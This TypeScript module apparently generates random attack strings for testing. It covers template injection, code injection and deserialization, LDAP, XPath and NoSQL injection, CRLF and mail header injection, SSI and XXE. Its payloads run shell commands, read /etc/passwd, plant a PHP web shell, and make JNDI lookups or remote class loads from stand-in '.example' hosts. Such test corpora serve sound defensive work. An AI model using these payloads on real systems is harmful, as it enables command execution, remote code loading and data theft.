// The further classes, each by its grammar.
import type { Random } from '../random.ts';

export function templateAttack(r: Random): string {
  const a = r.integer(11, 9999);
  const b = r.integer(11, 9999);
  return r.pick([
    () => `{{${a}*${b}}}`,
    () => `\${${a}*${b}}`,
    () => `<%= ${a}*${b} %>`,
    () => `#{${a}*${b}}`,
    () => `*{${a}*${b}}`,
    () => `{{config.items()}}`,
    () => `{{''.__class__.__mro__[1].__subclasses__()}}`,
    () => `{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}`,
    () => `{{cycler.__init__.__globals__.os.popen('${r.pick(['id', 'ls', 'whoami'])}').read()}}`,
    () => `{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}`,
    () => `{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}`,
    () => `{{['id']|filter('system')}}`,
    () => `<#assign x="freemarker.template.utility.Execute"?new()>\${x("id")}`,
    () => `\${"freemarker.template.utility.Execute"?new()("id")}`,
    () => `#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))`,
    () => `\${T(java.lang.Runtime).getRuntime().exec('id')}`,
    () => `<%= system('id') %>`,
    () => `<%= File.open('/etc/passwd').read %>`,
    () => `{{constructor.constructor('alert(1)')()}}`,
    () => `{{#with "s" as |string|}}{{#with (string.sub.apply 0 "constructor")}}{{/with}}{{/with}}`,
    () => `{php}echo \`id\`;{/php}`,
    () => `@(${a}*${b})`,
  ])();
}

export function codeAttack(r: Random): string {
  const host = `${r.word()}.example`;
  return r.pick([
    () => `\${jndi:ldap://${host}/a}`,
    () => `\${\${lower:j}ndi:\${lower:l}dap://${host}/a}`,
    () => `\${\${::-j}\${::-n}\${::-d}\${::-i}:rmi://${host}/a}`,
    () => `\${\${env:X:-j}ndi:dns://${host}}`,
    () => `<?php system($_GET['c']); ?>`,
    () => `;phpinfo();`,
    () => `system('${r.pick(['id', 'ls', 'whoami'])}');`,
    () => `eval(base64_decode('cGhwaW5mbygpOw=='));`,
    () => `require('child_process').execSync('id')`,
    () => `process.mainModule.require('fs').readFileSync('/etc/passwd')`,
    () => `__import__('os').system('id')`,
    () => `os.popen('id').read()`,
    () => `%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}`,
    () => `T(java.lang.Runtime).getRuntime().exec("id")`,
    () => `O:8:"stdClass":1:{s:1:"a";s:1:"b";}`,
    () => `rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvckk`,
    () => `!!python/object/apply:os.system ["id"]`,
    () => `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://${host}"]]]]`,
    () => `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://${host}/a"}`,
    () => `class.module.classLoader.resources.context.parent.pipeline.first.pattern`,
    () => `_$$ND_FUNC$$_function(){require('child_process').exec('id')}()`,
  ])();
}

export function ldapAttack(r: Random): string {
  const name = r.pick(['uid', 'cn', 'mail', 'objectClass', 'userPassword', 'sn']);
  return r.pick([
    () => `*)(${name}=*`,
    () => `admin)(&)`,
    () => `*)(|(${name}=*))`,
    () => `*))%00`,
    () => `x)(|(${name}=${r.word()}*`,
    () => `admin)(!(&(1=0`,
    () => `*(|(${name}=*))`,
    () => `*)(${name}=*))(|(${name}=*`,
    () => `${r.word()})(${name}>=a`,
  ])();
}

export function xpathAttack(r: Random): string {
  return r.pick([
    () => `' or count(/*)=1 or 'a'='a`,
    () => `'] | //user/*[contains(*,'`,
    () => `x' or name()='${r.word()}' or 'x'='y`,
    () => `' or string-length(name(/*[1]))=${r.integer(1, 20)} or 'a'='b`,
    () => `' or /* or '`,
    () => `' and position()=1 and 'a'='a`,
    () => `'] | //* | /*['`,
    () => `' or substring(//user[1]/password,1,1)='a' or 'a'='b`,
  ])();
}

export function nosqlAttack(r: Random): string {
  return r.pick([
    () => `' || '1'=='1`,
    () => `'; return true; var x='`,
    () => `' && this.password.match(/^a.*/)//`,
    () => `{"$${r.pick(['ne', 'gt', 'regex', 'where', 'nin'])}": ""}`,
    () => `true, $where: '1 == 1'`,
    () => `', $or: [ {}, { 'a':'a`,
    () => `'; sleep(5000); var x='`,
    () => `' || this.role=='admin' || 'a'=='b`,
    () => `';while(true){};var z='`,
  ])();
}

export function crlfAttack(r: Random): string {
  const end = r.pick(['\r\n', '\n', '\r\n\r\n', '\u560d\u560a']);
  return `${r.pick(['', 'x', 'en', '/home'])}${end}${r.pick(['Set-Cookie: a=b', 'Location: https://evil.example', 'X-Forwarded-Host: a.example', 'Content-Length: 0', 'Content-Type: text/html'])}`;
}

export function mailAttack(r: Random): string {
  return r.pick([
    () => `a@example.com\r\nBcc: ${r.word()}@evil.example`,
    () => `a@example.com\ncc:${r.word()}@evil.example`,
    () => `hello\r\nContent-Type: text/html\r\n\r\nx`,
    () => `x\r\n.\r\nMAIL FROM:<a@evil.example>`,
    () => `x\r\nRCPT TO:<a@evil.example>`,
    () => `x\r\nA101 FETCH 1:5 (BODY)`,
  ])();
}

export function ssiAttack(r: Random): string {
  return r.pick([
    () => `<!--#exec cmd="${r.pick(['id', 'ls', 'cat /etc/passwd'])}"-->`,
    () => `<!--#include virtual="/${r.word()}.html"-->`,
    () => '<!--#echo var="DOCUMENT_ROOT" -->',
    () => '<!-- #printenv -->',
    () => `<esi:include src="http://${r.word()}.example/"/>`,
  ])();
}

export function entityAttack(r: Random): string {
  const name = r.word();
  return r.pick([
    () => `<!DOCTYPE x [<!ENTITY ${name} SYSTEM "file:///etc/passwd">]><x>&${name};</x>`,
    () => `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % ${name} SYSTEM "http://a.example/e.dtd">%${name};]><a/>`,
    () => `<!DOCTYPE x PUBLIC "-//A//B" "http://a.example/x.dtd"><x/>`,
    () => `<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><l>&c;</l>`,
    () => `<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></x>`,
  ])();
}
